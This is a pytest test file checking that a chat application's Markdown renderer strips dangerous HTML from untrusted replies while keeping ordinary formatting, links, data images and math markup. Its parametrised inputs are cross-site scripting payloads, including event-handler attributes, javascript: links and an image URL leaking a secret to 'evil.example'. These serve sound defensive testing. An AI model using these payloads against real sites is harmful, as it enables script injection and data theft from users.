"""Replies are untrusted: their Markdown renders to sanitised HTML only."""

from html.parser import HTMLParser

import pytest

from chat.rendering import ALLOWED_TAGS, render_markdown


class Elements(HTMLParser):
    """Every element and attribute in a piece of HTML, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](https://evil.example/leak?d=secret)",
        '<svg onload="alert(1)"></svg>',
        "<iframe src='https://evil.example'></iframe>",
        '<a href="https://ok.example" onclick="x()">a</a>',
        "```html\n<script>alert(1)</script>\n```",
    ],
)
def test_dangerous_markup_is_neutralised(markdown):
    elements = Elements(render_markdown(markdown)).found
    for tag, attrs in elements:
        assert tag in ALLOWED_TAGS
        assert not [name for name in attrs if name.startswith("on")]
        for name in ("href", "src"):
            value = (attrs.get(name) or "").lower()
            assert not value.startswith(("javascript:", "data:text"))
        if tag == "img":
            assert "src" not in attrs or attrs["src"].startswith("data:image/")
        assert "evil.example" not in attrs.get("src", "")


def test_ordinary_markdown_survives():
    html = render_markdown(
        "# Title\n\n- **bold** and `code`\n\n```python\nprint(1)\n```\n\n"
        "[link](https://example.com)"
    )
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html
    assert '<code class="language-python">' in html
    assert 'href="https://example.com"' in html and "noopener" in html


def test_inline_data_images_are_kept():
    html = render_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html


def test_the_chat_preset_matches_the_browser():
    """Line breaks kept, bare URLs linked, tables aligned without inline styles,
    strikethrough kept: the preset of static/chat/markdown.js."""
    html = render_markdown(
        "one\ntwo https://example.com and main.py\n\n~~old~~\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |"
    )
    assert "one<br>\ntwo" in html
    assert '<a href="https://example.com"' in html and "http://main.py" not in html
    assert "<s>old</s>" in html
    assert '<td align="right">2</td>' in html and "style=" not in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("a $x\\,y$ b", '<span class="math math-inline">x\\,y</span>'),
        ("\\(a<b\\)", '<span class="math math-inline">a&lt;b</span>'),
        (
            "$$\n\\int_0^1 x\\,dx\n$$",
            '<div class="math math-display">\\int_0^1 x\\,dx</div>',
        ),
        ("see \\[x^2\\] here", '<span class="math math-display">x^2</span>'),
    ],
)
def test_math_is_marked_as_text_for_katex(markdown, expected):
    assert expected in render_markdown(markdown)


def test_prices_are_not_math():
    assert "math" not in render_markdown("$5 and $10")
